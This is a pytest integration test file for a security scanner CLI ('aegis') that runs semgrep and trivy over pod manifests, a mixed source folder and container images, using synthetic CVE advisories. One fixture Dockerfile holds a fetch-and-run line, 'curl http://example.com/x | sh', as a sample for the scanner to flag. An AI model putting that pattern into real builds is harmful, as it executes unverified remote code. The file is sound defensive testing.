"""The real command with the real semgrep and trivy, as a person or a pipeline runs it."""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
from collections.abc import Callable, Iterable
from pathlib import Path
from typing import Any

import jsonschema
import pytest
from evasions import EVASIONS, REFUSED, SEEN
from oci_image import debian, python_package, write_image
from trivy_database import library_advisory, os_advisory, vulnerability, write_database

FindTool = Callable[[str], Path]
SCHEMA = Path(__file__).parents[1] / "fixtures" / "sarif" / "sarif-2.1.0-rtm.5.json"
SSL, ZLIB = ("libssl3", "openssl"), ("zlib1g", "zlib")
ADVISORIES: dict[str, dict[str, dict[str, Any]]] = {
    "debian 12": {
        "openssl": {"CVE-2024-1001": os_advisory("3.0.15-1~deb12u1"), "CVE-2024-1002": os_advisory("3.0.20-1")},
        "zlib": {"CVE-2023-1003": os_advisory("")},
    },
    "pip::Test": {"django": {"CVE-2024-1004": library_advisory("<5", "5.0")}},
}
DETAILS = {
    name: vulnerability(severity, "a fault")
    for name, severity in {
        "CVE-2024-1001": "HIGH",
        "CVE-2024-1002": "CRITICAL",
        "CVE-2023-1003": "LOW",
        "CVE-2024-1004": "MEDIUM",
    }.items()
}


@pytest.fixture
def aegis(tmp_path: Path, tool: FindTool) -> Callable[..., subprocess.CompletedProcess[str]]:
    """Run it in a folder; the tools that the tests need are there."""
    for name in ("semgrep", "trivy"):
        tool(name)
    cache = write_database(tmp_path / "cache", ADVISORIES, DETAILS)
    own = {"XDG_STATE_HOME": str(tmp_path / "state"), "AEGIS_SECURITY__TRIVY_CACHE": str(cache)}

    def run(*words: str, cwd: Path, **environ: str) -> subprocess.CompletedProcess[str]:
        return subprocess.run(
            [sys.executable, "-m", "aegis.interfaces.cli.main", "scan", *words, "-q"],
            cwd=cwd,
            env={**os.environ, **own, **environ},
            capture_output=True,
            text=True,
            timeout=150,
            check=False,
        )

    return run


Run = Callable[..., subprocess.CompletedProcess[str]]


def written(folder: Path, names: Iterable[str]) -> None:
    """Each variant in a file of its own."""
    folder.mkdir()
    for name in names:
        (folder / f"{name}.yaml").write_bytes(EVASIONS[name])


def test_every_scanner_catches_every_way_of_writing_a_privileged_pod(aegis: Run, tmp_path: Path) -> None:
    written(tmp_path / "in", SEEN)
    done = aegis("manifest", "in", "-o", "json", cwd=tmp_path)
    assert done.returncode == 1, done.stderr
    report = json.loads(done.stdout)
    rules = {"podsecurity": "pss-baseline-privileged", "semgrep": "k8s-privileged", "trivy": "KSV-0017"}
    for scanner, rule in rules.items():
        caught = {one["subject"] for one in report["findings"] if (one["source"], one["rule_id"]) == (scanner, rule)}
        assert caught == {f"Pod/{name}" for name in SEEN}, scanner
    looked = {one["scanner"]: one["looked"] for one in report["scanners"]}
    assert {name: looked[name] for name in rules} == dict.fromkeys(rules, True)


@pytest.mark.parametrize("name", sorted(REFUSED))
def test_what_two_readers_read_in_two_ways_is_refused(name: str, aegis: Run, tmp_path: Path) -> None:
    written(tmp_path / "in", [name])
    done = aegis("manifest", "in", cwd=tmp_path)
    assert (done.returncode, done.stdout) == (2, "")
    assert re.match(rf"aegis: in/{name}\.yaml(:\d+)*: ", done.stderr)


def test_a_mixed_folder(aegis: Run, tmp_path: Path) -> None:
    folder = tmp_path / "in"
    (folder / "chart" / "templates").mkdir(parents=True)
    (folder / "app").mkdir()
    (folder / "deploy.yaml").write_bytes(EVASIONS["plain"])
    (folder / "chart" / "values.yaml").write_text("replicas: 2\n", encoding="utf-8")
    (folder / "app" / "Dockerfile").write_text("FROM debian:12\nRUN curl http://example.com/x | sh\n", encoding="utf-8")
    (folder / "app" / "main.py").write_text("print('hello')\n", encoding="utf-8")
    done = aegis("source", "in", "-o", "sarif", cwd=tmp_path)
    assert done.returncode == 1, done.stderr
    document = json.loads(done.stdout)
    validator: Any = jsonschema.Draft4Validator(json.loads(SCHEMA.read_text(encoding="utf-8")))
    assert [error.message for error in validator.iter_errors(document)] == []
    where = {
        one["locations"][0]["physicalLocation"]["artifactLocation"]["uri"]
        for run in document["runs"]
        for one in run["results"]
    }
    assert {"in/deploy.yaml", "in/app/Dockerfile"} <= where


def test_an_image_against_its_baseline(aegis: Run, tmp_path: Path) -> None:
    django = python_package("Django", "4.2.5")
    old = debian("12.5", [(*SSL, "3.0.11-1~deb12u2"), (*ZLIB, "1:1.2.13.dfsg-1")])
    new = debian("12.6", [(*SSL, "3.0.15-1~deb12u1"), (*ZLIB, "1:1.2.13.dfsg-1")])
    write_image(tmp_path / "old.tar", old, django, tag="shop:1")
    write_image(tmp_path / "new.tar", new, django, tag="shop:2")
    done = aegis("image", "./new.tar", "--baseline", "./old.tar", "-o", "json", cwd=tmp_path)
    assert done.returncode == 0, done.stdout + done.stderr
    report = json.loads(done.stdout)
    compared = report["comparison"]
    assert [len(compared[side]) for side in ("fixed", "new", "same")] == [1, 0, 3]
    assert (report["verdict"], [one["rule_id"] for one in compared["fixed"]]) == ("passed", ["CVE-2024-1001"])
    assert aegis("image", "./new.tar", cwd=tmp_path).returncode == 1
    backwards = aegis("image", "./old.tar", "--baseline", "./new.tar", cwd=tmp_path)
    assert backwards.returncode == 1
    assert "Against ./new.tar: 0 fixed, 1 new, 0 worse, 3 same" in backwards.stdout


def test_a_database_that_is_not_there_is_no_answer(aegis: Run, tmp_path: Path) -> None:
    write_image(tmp_path / "web.tar", debian("12.5", [(*ZLIB, "1:1.2.13.dfsg-1")]), tag="web:1")
    none = str(tmp_path / "empty")
    done = aegis("image", "./web.tar", "-o", "gitlab", cwd=tmp_path, AEGIS_SECURITY__TRIVY_CACHE=none)
    assert done.returncode == 3
    scan = json.loads(done.stdout)["scan"]
    assert (scan["status"], bool(scan["messages"])) == ("failure", True)
